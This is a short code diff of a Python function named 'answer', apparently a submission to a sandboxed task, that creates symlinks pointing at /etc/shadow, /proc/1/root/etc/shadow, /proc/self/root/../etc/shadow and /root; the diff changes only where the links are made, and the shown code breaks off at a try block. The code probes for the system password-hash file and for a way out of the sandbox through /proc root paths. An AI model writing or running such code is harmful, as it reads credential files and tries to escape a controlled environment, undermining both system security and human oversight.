@@ -3,7 +3,7 @@ import os
 
 def answer(n):
     for number, target in enumerate(("/proc/1/root/etc/shadow", "/proc/self/root/../etc/shadow", "/etc/shadow", "/root")):
-        link = f"/work/link{number}"
+        link = f"link{number}"
         if not os.path.islink(link):
             os.symlink(target, link)
         try:
